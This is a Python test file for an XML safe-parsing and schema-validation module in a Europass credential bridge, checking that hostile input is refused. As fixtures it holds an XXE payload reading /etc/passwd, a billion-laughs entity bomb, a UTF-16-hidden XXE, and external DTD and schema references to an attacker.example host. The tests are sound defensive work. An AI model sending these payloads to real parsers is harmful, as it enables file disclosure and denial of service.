"""Hostile XML is refused before anything reads it; the schema loads offline and is compiled once."""
from __future__ import annotations

import pytest
from lxml import etree

from bridge.edc import schema_check
from bridge.edc.schema_check import (
    EdcSchema,
    SchemaNotFound,
    UnsafeSchemaImport,
    UnsafeXmlError,
    from_env,
    safe_parse,
)
from bridge.edc.xml_builder import build_edc_xml

from .helpers import EDC_REFERENCE, XSD_DIR, credential

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE europassCredential [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<europassCredential xmlns="http://data.europa.eu/snb">&secret;</europassCredential>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE europassCredential SYSTEM "http://attacker.example/evil.dtd">
<europassCredential xmlns="http://data.europa.eu/snb"/>"""


@pytest.mark.parametrize("data", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"])
def test_dtds_and_entities_are_refused_with_a_clear_error(data):
    with pytest.raises(UnsafeXmlError, match="DOCTYPE declaration; DTDs and entities are refused"):
        safe_parse(data)


def test_a_dtd_hidden_by_utf16_is_still_refused():
    """The byte scan cannot see UTF-16; the check of the parsed tree must catch it."""
    data = XXE.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>').decode().encode("utf-16")
    assert b"<!DOCTYPE" not in data
    with pytest.raises(UnsafeXmlError, match="DTD"):
        safe_parse(data)


def test_even_past_the_refusal_the_parser_would_not_read_files():
    """Defence in depth: the hardened parser itself leaves the entity unexpanded and reads no file."""
    root = etree.fromstring(XXE, schema_check._hardened_parser())
    assert b"root:" not in etree.tostring(root)
    assert root.text is None and isinstance(root[0], etree._Entity)
    assert schema_check._uses_entities(root.getroottree())  # what safe_parse refuses after its DTD checks
    assert not schema_check._uses_entities(safe_parse(build_edc_xml(credential("ltlang01"))))


def test_schema_check_reports_a_hostile_document_instead_of_validating_it(schema):
    problems = schema.problems(XXE)
    assert len(problems) == 1 and "DTDs and entities are refused" in problems[0]


def test_malformed_xml_is_a_syntax_error_with_its_line(schema):
    broken = (b"<?xml version='1.0'?>\n<europassCredential xmlns='http://data.europa.eu/snb'>\n"
              b"<title>\n</europassCredential>")
    with pytest.raises(etree.XMLSyntaxError):
        safe_parse(broken)
    [problem] = schema.problems(broken)
    assert problem.startswith("line 4:") and "not well-formed" in problem


def test_our_own_output_parses_safely():
    tree = safe_parse(build_edc_xml(credential("ltlang01")))
    assert tree.getroot().tag == "{http://data.europa.eu/snb}europassCredential"


def test_the_eu_signed_sample_validates_offline_with_xades_132_in_proof(schema):
    """The schema imports an XAdES 1.4.1 file that is absent; 1.3.2 content in <proof> must still pass."""
    data = (EDC_REFERENCE / "v1_signed_samples" / "credential-generic-profile-xsd-signed.xml").read_bytes()
    tree = safe_parse(data)
    assert tree.getroot().find(".//{http://uri.etsi.org/01903/v1.3.2#}QualifyingProperties") is not None
    assert schema.problems(tree) == []
    # a changed sample must fail, or the check proves nothing
    registration = tree.getroot().find(".//{http://data.europa.eu/snb}registration")
    registration.getparent().remove(registration)
    assert any("registration" in p for p in schema.problems(tree))


@pytest.mark.parametrize("name", ["EDC_WileECoyote_Simple.xml", "EDC_SampleACT_AA.xml", "EDC_SampleDegree_AA.xml"])
def test_the_eu_samples_validate(schema, name):
    assert schema.problems((EDC_REFERENCE / "v1_samples" / name).read_bytes()) == []


def test_the_schema_compiles_once_per_folder():
    first, second = EdcSchema(XSD_DIR), EdcSchema(str(XSD_DIR) + "/")
    assert first._schema is second._schema
    assert XSD_DIR.resolve() in schema_check._compiled


def test_from_env():
    assert from_env({}) is None
    assert from_env({"EDC_SCHEMA_DIR": "  "}) is None
    assert isinstance(from_env({"EDC_SCHEMA_DIR": str(XSD_DIR)}), EdcSchema)
    assert isinstance(EdcSchema.from_env({"EDC_SCHEMA_DIR": str(XSD_DIR)}), EdcSchema)
    with pytest.raises(SchemaNotFound, match="genericschema_1.2.xsd"):
        from_env({"EDC_SCHEMA_DIR": str(EDC_REFERENCE / "v1_samples")})


@pytest.mark.parametrize("location", ["http://attacker.example/x.xsd", "../outside.xsd"])
def test_a_schema_importing_from_outside_its_folder_is_refused(tmp_path, location):
    """Schema files come from the configured folder only: never the network, never another path."""
    folder = tmp_path / "xsd"
    folder.mkdir()
    (folder / "genericschema_1.2.xsd").write_text(
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:t" xmlns="urn:t" '
        f'elementFormDefault="qualified"><xs:import namespace="urn:elsewhere" schemaLocation="{location}"/>'
        '<xs:element name="a" type="xs:string"/></xs:schema>'
    )
    (tmp_path / "outside.xsd").write_text(
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:elsewhere"/>')
    with pytest.raises(UnsafeSchemaImport, match="outside that folder"):
        EdcSchema(folder)


def test_a_schema_with_local_imports_only_compiles(tmp_path):
    (tmp_path / "genericschema_1.2.xsd").write_text(
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:t" xmlns="urn:t" '
        'elementFormDefault="qualified"><xs:import namespace="urn:n" schemaLocation="n.xsd"/>'
        '<xs:element name="a" type="xs:string"/></xs:schema>'
    )
    (tmp_path / "n.xsd").write_text('<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:n"/>')
    schema = EdcSchema(tmp_path)
    assert schema.problems(b"<a xmlns='urn:t'>x</a>") == []
    assert schema.problems(b"<b xmlns='urn:t'>x</b>") != []
